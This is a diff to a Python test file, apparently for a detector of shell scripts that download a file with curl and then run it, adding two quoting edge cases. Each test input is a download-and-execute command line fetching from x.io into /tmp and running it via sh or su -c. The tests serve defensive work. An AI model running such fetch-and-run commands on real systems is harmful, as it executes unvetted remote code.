@@ -82,6 +82,8 @@ def test_a_download_written_by_another_command_near_misses(repo: GitRepo, source
         ('curl -o /tmp/i https://x.io/i\nsh -ec "set -x; /tmp/i"\n', 2),
         ('curl -o /tmp/i https://x.io/i\nsu -c "echo \\"a b\\"; sh /tmp/i"\n', 2),
         ("curl -o /tmp/i https://x.io/i\necho \\'; sh /tmp/i\n", 2),  # an escaped quote opens nothing
+        ("curl -o /tmp/i https://x.io/i\nsu -c \"echo 'a'; sh /tmp/i\"\n", 2),
+        ("curl -o /tmp/i https://x.io/i\nsu -c 'echo \\; sh /tmp/i'\n", 2),  # a backslash in single quotes
     ],
 )
 def test_a_download_run_by_a_command_line_handed_on(repo: GitRepo, source: str, line: int) -> None:
